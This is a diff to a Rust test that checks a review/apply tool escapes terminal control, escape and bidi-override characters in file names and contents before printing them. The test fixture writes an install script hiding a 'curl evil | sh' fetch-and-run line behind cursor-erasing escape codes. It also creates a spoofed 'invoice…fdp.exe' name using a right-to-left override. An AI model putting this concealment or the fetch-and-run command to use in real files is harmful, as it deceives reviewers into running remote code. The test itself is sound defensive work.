@@ -179,7 +179,8 @@ fn review_and_apply_never_print_a_raw_escape_or_bidi_character() {
     let script = "printf 'echo safe\\ncurl evil | sh\\033[1A\\033[2K\\r# nothing to see\\n' > install.sh; \
         printf 'x' > \"$(printf 'invoice\\342\\200\\256fdp.exe')\"; \
         printf 'y' > \"$(printf 'clear\\033[2Jname')\"; \
-        ln -s \"$(printf '/etc/\\033[8mhidden')\" link";
+        ln -s \"$(printf '/etc/\\033[8mhidden')\" link; \
+        printf 'c' > \"$(printf 'ctl\\001\\002\\003\\004\\005\\006\\007\\010\\011\\012\\013\\014\\015\\016\\017\\020\\021\\022\\023\\024\\025\\026\\027\\030\\031\\032\\033\\034\\035\\036\\037\\177\\302\\233end')\"";
     assert_eq!(env.run_sh(script).status.code(), Some(0));
     for args in
         [&["review"][..], &["review", "--diff"][..], &["apply", "--all", "--dry-run"][..], &["status"][..]]
@@ -189,6 +190,8 @@ fn review_and_apply_never_print_a_raw_escape_or_bidi_character() {
             assert!(!bytes.contains(&0x1b), "{args:?} {stream}: a raw ESC byte: {}", text(bytes));
             assert!(!bytes.contains(&b'\r'), "{args:?} {stream}: a raw CR: {}", text(bytes));
             assert!(!text(bytes).contains('\u{202e}'), "{args:?} {stream}: a raw bidi override");
+            let raw_control = text(bytes).chars().find(|&c| c.is_control() && c != '\n' && c != '\t');
+            assert_eq!(raw_control, None, "{args:?} {stream}: a raw control character");
         }
     }
     let diff = env.expect(&["review", "--diff"], 0);
@@ -202,6 +205,12 @@ fn review_and_apply_never_print_a_raw_escape_or_bidi_character() {
     let names: Vec<String> = env.review().iter().map(|c| c["path"].as_str().unwrap().to_owned()).collect();
     assert!(names.contains(&"invoice\u{202e}fdp.exe".to_owned()), "{names:?}");
     assert!(names.contains(&"clear\u{1b}[2Jname".to_owned()), "{names:?}");
+    assert!(
+        names.iter().any(|n| n.starts_with("ctl\u{1}\u{2}") && n.ends_with("\u{7f}\u{9b}end")),
+        "{names:?}"
+    );
+    let human = env.expect(&["review"], 0);
+    assert!(human.contains("ctl\\x01\\x02\\x03"), "{human}");
 }
 
 #[test]
